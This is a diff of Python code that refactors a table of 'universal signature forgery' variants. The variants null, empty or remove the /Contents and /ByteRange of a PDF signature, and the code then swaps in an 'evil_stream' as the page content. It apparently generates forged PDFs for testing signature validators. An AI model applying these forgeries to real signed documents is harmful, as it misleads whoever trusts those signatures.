@@ -148,23 +148,18 @@ def isa_hidden_behind_object(data):
 # ---------------------------------------------------------------- USF: universal signature forgery
 
 USF = {
-    "contents null": lambda w, sig: sig.__setitem__(pdf_name("/Contents"), generic.NullObject()),
-    "contents empty": lambda w, sig: sig.__setitem__(
-        pdf_name("/Contents"), generic.ByteStringObject(b"")
+    "contents null": ("/Contents", generic.NullObject()),
+    "contents empty": ("/Contents", generic.ByteStringObject(b"")),
+    "contents zero": ("/Contents", generic.ByteStringObject(b"\x00")),
+    "contents gone": ("/Contents", None),
+    "range null": ("/ByteRange", generic.NullObject()),
+    "range gone": ("/ByteRange", None),
+    "range empty": ("/ByteRange", generic.ArrayObject()),
+    "range negative": (
+        "/ByteRange",
+        generic.ArrayObject(map(generic.NumberObject, (0, -1, -1, 0))),
     ),
-    "contents zero": lambda w, sig: sig.__setitem__(
-        pdf_name("/Contents"), generic.ByteStringObject(b"\x00")
-    ),
-    "contents gone": lambda w, sig: sig.__delitem__("/Contents"),
-    "range null": lambda w, sig: sig.__setitem__(pdf_name("/ByteRange"), generic.NullObject()),
-    "range gone": lambda w, sig: sig.__delitem__("/ByteRange"),
-    "range empty": lambda w, sig: sig.__setitem__(pdf_name("/ByteRange"), generic.ArrayObject()),
-    "range negative": lambda w, sig: sig.__setitem__(
-        pdf_name("/ByteRange"), generic.ArrayObject(map(generic.NumberObject, (0, -1, -1, 0)))
-    ),
-    "value a number": lambda w, sig: field(w, "ConDau").__setitem__(
-        pdf_name("/V"), generic.NumberObject(1)
-    ),
+    "value a number": ("/V", generic.NumberObject(1)),
 }
 
 
@@ -174,9 +169,13 @@ def usf(data, how):
     def change(writer):
         one = field(writer, "ConDau")
         sig = one["/V"]
-        USF[how](writer, sig)
-        if isinstance(sig, generic.DictionaryObject):
-            writer.update_container(sig)
+        key, value = USF[how]
+        target = one if key == "/V" else sig
+        if value is None:
+            del target[key]
+        else:
+            target[pdf_name(key)] = value
+        writer.update_container(target)
         writer.update_container(one)
         first = page(writer)
         first["/Contents"] = evil_stream(writer)
